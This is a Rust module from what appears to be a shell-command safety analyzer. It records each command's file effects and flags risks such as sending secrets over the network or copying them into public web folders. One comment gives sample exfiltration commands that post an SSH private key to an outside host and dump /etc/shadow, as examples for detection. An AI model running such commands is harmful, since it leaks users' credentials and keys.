//! Applies a row of the table to a call.

use super::args::Args;
use super::looks::Proof;
use super::row::{Operands, Program};
use crate::guard::RuleId;
use crate::reading::{Class, Doubt};
use crate::text::{Taint, Text};
use crate::walk::{Act, Call, Walker, base_name};

/// Records the effects of `call` according to its row.
pub(crate) fn apply(walker: &mut Walker<'_>, program: &'static Program, call: &Call) {
    if asks_for_help(call) {
        return;
    }
    // `docker compose` is `docker-compose` with its own options.
    if matches!(program.name, "docker" | "podman")
        && call.rest().first().is_some_and(|word| word.text == "compose")
        && let Some(compose) = super::find("docker-compose")
    {
        let argv = call.rest().to_vec();
        return apply(walker, compose, &Call { argv, ..call.clone() });
    }
    let joined;
    let values = if program.inputs.is_empty() && program.outputs.is_empty() {
        program.values
    } else {
        joined = [program.values, program.inputs, program.outputs].join(" ");
        joined.as_str()
    };
    let args = Args::parse(call.rest(), values);
    walker.reading.network |= program.network;
    let sub = program.subs.iter().find(|sub| sub.fits(&args));
    let mut class = sub.map_or(program.class, |sub| sub.class);
    let mut kind = program.operands;
    let mut looks = args.has("--dry-run|--dryrun");
    let before = Recorded::of(walker);
    let special_class = program.special.and_then(|special| special(walker, call, &args));
    if let Some(override_class) = special_class {
        class = override_class;
        looks |= class == Class::ReadOnly;
        if class == Class::ReadOnly && kind != Operands::Ignore && kind != Operands::PatternThenRead {
            kind = Operands::Read;
        }
    }
    let name = if program.name.is_empty() { call.name.as_str() } else { program.name };
    // A server learns every word that it is asked about.
    if program.network
        && program.special.is_none()
        && args.operands.iter().any(|operand| operand.taint.has(Taint::SECRET))
    {
        walker.risk(RuleId::SecretExfiltration, call.name.clone(), call.span);
    }
    // `ab -p ~/.ssh/id_rsa http://x.org/`, `w3m -dump /etc/shadow`
    if program.network && program.special.is_none() {
        walker.passed_secrets(call);
    }
    if program.class == Class::ReadOnly && !program.network {
        walker.secrets_as_input(call);
    }
    let proof = super::looks::prove(name, call.rest());
    let decided = special_class.is_some_and(|class| class > Class::ReadOnly);
    if proof == Proof::Proven && !decided && before == Recorded::of(walker) {
        class = Class::ReadOnly;
        looks = true;
        if !matches!(kind, Operands::Ignore | Operands::PatternThenRead) {
            kind = Operands::Read;
        }
    } else if class == Class::ReadOnly && !proof.is_listed() {
        class = Class::Unknown;
    }
    walker.classify(call.command, class);
    if class == Class::Unknown {
        walker.doubt(Doubt::Effects, call.name.clone(), call.span);
    }
    let risk = sub.map_or(program.risk, |sub| sub.risk);
    if let Some(risk) = risk.filter(|_| !looks) {
        walker.risk(risk, line(call), call.span);
    }
    for (options, act) in [(program.inputs, Act::Read), (program.outputs, Act::Write)] {
        for option in options.split(' ').filter(|option| !option.is_empty()) {
            for value in args.values(option) {
                if value.text != "-" {
                    walker.touch(act, value, call.span);
                }
            }
        }
    }
    operands(walker, kind, &args, call);
    if class > Class::ReadOnly
        && risk.is_none()
        && changes_files(program)
        && !names_files(walker, call.command)
    {
        walker.doubt(Doubt::Effects, call.name.clone(), call.span);
    }
}

/// How much the walker has recorded; a call that recorded more did something.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Recorded {
    commands: usize,
    changes: usize,
    doubts: usize,
    risks: usize,
}

impl Recorded {
    fn of(walker: &Walker<'_>) -> Self {
        let reading = &walker.reading;
        Self {
            commands: reading.commands.len(),
            changes: reading.writes.len() + reading.creates.len() + reading.deletes.len(),
            doubts: reading.unknown.len(),
            risks: reading.risks.len(),
        }
    }
}

/// Returns whether a program of this family changes files, not services or other machines.
fn changes_files(program: &'static Program) -> bool {
    super::FAMILIES_OF_FILES.iter().any(|family| family.as_ptr_range().contains(&std::ptr::from_ref(program)))
}

/// Returns whether the reading lists files that a command changes.
fn names_files(walker: &Walker<'_>, command: usize) -> bool {
    let reading = &walker.reading;
    [&reading.writes, &reading.creates, &reading.deletes]
        .iter()
        .any(|list| list.iter().rev().take(8).any(|used| used.command >= command))
}

fn operands(walker: &mut Walker<'_>, kind: Operands, args: &Args, call: &Call) {
    let span = call.span;
    let all = || args.operands.iter().filter(|operand| operand.text != "-");
    match kind {
        Operands::Ignore => {}
        Operands::Read => all().for_each(|operand| drop(walker.touch(Act::Read, operand, span))),
        Operands::Write => all().for_each(|operand| drop(walker.touch(Act::Write, operand, span))),
        Operands::Create => all().for_each(|operand| drop(walker.touch(Act::Create, operand, span))),
        Operands::Delete => all().for_each(|operand| walker.delete_path(operand, false, span)),
        Operands::DeleteTree => {
            let recursive = args.has("-r|-R|--recursive");
            all().for_each(|operand| walker.delete_path(operand, recursive, span));
        }
        Operands::PatternThenRead => {
            let skip = usize::from(!args.has("-e|-f|--regexp|--file|--files"));
            all().skip(skip).for_each(|operand| drop(walker.touch(Act::Read, operand, span)));
        }
        Operands::ModeThenWrite => {
            // `chmod -x file`: the mode looks like an option.
            let skip = usize::from(!args.has("--reference") && !args.has("-x|-w|-r|-t|-s"));
            all().skip(skip).for_each(|operand| drop(walker.touch(Act::Write, operand, span)));
        }
        Operands::Copy | Operands::Move => copy(walker, kind, args, call),
    }
}

/// `cp a b c folder`, `cp -t folder a b`.
fn copy(walker: &mut Walker<'_>, kind: Operands, args: &Args, call: &Call) {
    let target = args.values("-t|--target-directory").first().map(|target| (*target).clone());
    let (sources, target) = match target {
        Some(target) => (args.operands.as_slice(), Some(target)),
        None => match args.operands.split_last() {
            Some((last, sources)) => (sources, Some((*last).clone())),
            None => return,
        },
    };
    let mut taint = Taint::NONE;
    for source in sources {
        let path = walker.resolve(source).0;
        taint = taint.with(walker.taint_of_file(&path));
        if kind == Operands::Move {
            walker.touch(Act::Delete { recursive: false }, source, call.span);
        } else {
            walker.touch(Act::Read, source, call.span);
        }
    }
    let Some(target) = target else { return };
    let path = walker.resolve(&target).0;
    if taint.has(Taint::SECRET) && walker.is_local() && is_published(&path) {
        walker.risk(RuleId::SecretPublished, path.clone(), call.span);
    }
    let contents = args.has("-T|--no-target-directory");
    // A link to a folder is replaced, not entered.
    let replaces = contents || call.name == "ln" && args.has("-n|--no-dereference");
    let into = sources.len() > 1
        || target.text.ends_with('/')
        || matches!(base_name(&target.text), "." | "..")
        || args.has("-t|--target-directory")
        || !replaces && walker.place.files.is_dir(&path);
    let keeps_folders = call.name == "cp" && args.has("--parents");
    for source in sources {
        if contents || source.text.ends_with("/.") || source.text == "." {
            walker.copy_contents(source, &target, call.span);
        }
    }
    let is_tree = kind == Operands::Copy && call.name == "cp" && args.has("-r|-R|-a|--recursive|--archive");
    if into || keeps_folders {
        for source in sources {
            let mut inside = target.clone();
            inside.push_str("/");
            inside.push_str(if keeps_folders { &source.text } else { base_name(&source.text) });
            inside.glob |= source.glob;
            keep(walker, &inside, source, taint, call);
            if is_tree {
                walker.copy_tree(source, &inside, args.has("-L|--dereference"), call.span);
            }
        }
    } else if let [source] = sources {
        keep(walker, &target, source, taint, call);
        if is_tree {
            walker.copy_tree(source, &target, args.has("-L|--dereference"), call.span);
        }
    } else {
        walker.write_path(&target, call.span);
    }
}

/// Returns whether web servers and site builders send the files below a path to every visitor.
fn is_published(path: &str) -> bool {
    const FOLDERS: [&str; 7] = ["public", "static", "www", "wwwroot", "htdocs", "public_html", "gh-pages"];
    path.split('/').any(|folder| FOLDERS.contains(&folder))
}

/// Writes a copy; a copy of something fetched or secret is still that.
fn keep(walker: &mut Walker<'_>, target: &Text, source: &Text, taint: Taint, call: &Call) {
    if let Some(path) = walker.write_path(target, call.span) {
        let origin = format!("$(<{})", walker.resolve(source).0);
        let content = walker.content_of(source).unwrap_or_else(|| Text::unknown(origin, taint));
        walker.remember(&path, content);
    }
}

/// `x --help`, `x --version`, `x sub --help`: prints and ends.
fn asks_for_help(call: &Call) -> bool {
    call.argv.len() <= 6
        && call.argv.last().is_some_and(|last| matches!(last.text.as_str(), "--help" | "--version" | "-help"))
        && !matches!(call.name.as_str(), "rm" | "find" | "dd")
}

/// The words of a call, shortened.
pub(super) fn line(call: &Call) -> String {
    let mut line = String::new();
    for arg in &call.argv {
        if !line.is_empty() {
            line.push(' ');
        }
        line.push_str(&arg.text);
        if line.len() > 120 {
            line = line.chars().take(120).collect();
            line.push('…');
            break;
        }
    }
    line
}
